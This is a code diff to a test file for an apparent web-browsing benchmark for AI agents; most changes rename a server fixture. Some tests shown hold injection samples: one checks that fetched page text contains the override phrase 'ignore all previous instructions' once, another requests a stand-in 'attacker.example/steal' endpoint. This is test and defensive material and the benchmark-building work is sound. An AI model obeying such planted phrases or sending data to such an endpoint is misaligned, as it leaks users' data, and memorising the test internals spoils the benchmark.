@@ -21,8 +21,13 @@ from certigraph.benchmarks.assistantbench.server import (
 
 
 @pytest.fixture(scope="module")
-def server():
-    serving = GeneratedWebServer(load_pages())
+def pages():
+    return load_pages()
+
+
+@pytest.fixture(scope="module")
+def server(pages):
+    serving = GeneratedWebServer(pages)
     yield serving
     serving.close()
 
@@ -68,21 +73,9 @@ REASONS = {
 """By what a page does: why it cannot be read, and whether its site is given up."""
 
 
-@pytest.fixture(scope="module")
-def pages():
-    return load_pages()
-
-
-@pytest.fixture(scope="module")
-def server_generated_web(pages):
-    serving = GeneratedWebServer(pages)
-    yield serving
-    serving.close()
-
-
 @pytest.fixture
-def read(server_generated_web):
-    return Fetcher(timeout=1, hosts={".example": server_generated_web.address}).page
+def read(server):
+    return Fetcher(timeout=1, hosts={".example": server.address}).page
 
 
 def page_that(pages, does):
@@ -95,7 +88,7 @@ def request_page(server, host, path, **options):
 
 @pytest.mark.slow
 @pytest.mark.parametrize("treatment", REASONS)
-def test_a_page_that_cannot_be_read_costs_bounded_time_and_says_why(server_generated_web, pages, read, treatment):
+def test_a_page_that_cannot_be_read_costs_bounded_time_and_says_why(server, pages, read, treatment):
     began = time.monotonic()
     got = read(page_that(pages, treatment).url)
     assert isinstance(got, Unreadable)
@@ -119,17 +112,17 @@ def test_orders_in_plain_sight_are_read_and_those_in_secret_are_not(pages, read)
     assert got.text.count("ignore all previous instructions") == 1
 
 
-def test_robots_are_kept_out_of_one_sites_private_pages(server_generated_web, pages, read):
+def test_robots_are_kept_out_of_one_sites_private_pages(server, pages, read):
     private = next(page for page in pages.values() if page.path.startswith("/private"))
     got = read(private.url)
     assert isinstance(got, Unreadable) and "robots.txt" in got.reason and not got.lasting
     elsewhere = page_that(pages, Treatment.MOVED).host
-    assert request_page(server_generated_web, elsewhere, "/robots.txt").text == "User-agent: *\nDisallow: \n"
+    assert request_page(server, elsewhere, "/robots.txt").text == "User-agent: *\nDisallow: \n"
 
 
-def test_what_no_site_has_is_not_found_by_any_engine(server_generated_web):
-    assert request_page(server_generated_web, "nobody.example", "/").status_code == 404
-    assert request_page(server_generated_web, "attacker.example", "/steal?question=all").status_code == 200
+def test_what_no_site_has_is_not_found_by_any_engine(server):
+    assert request_page(server, "nobody.example", "/").status_code == 404
+    assert request_page(server, "attacker.example", "/steal?question=all").status_code == 200
 
 
 def test_the_server_stops_at_once_although_a_page_is_still_waited_for(pages):
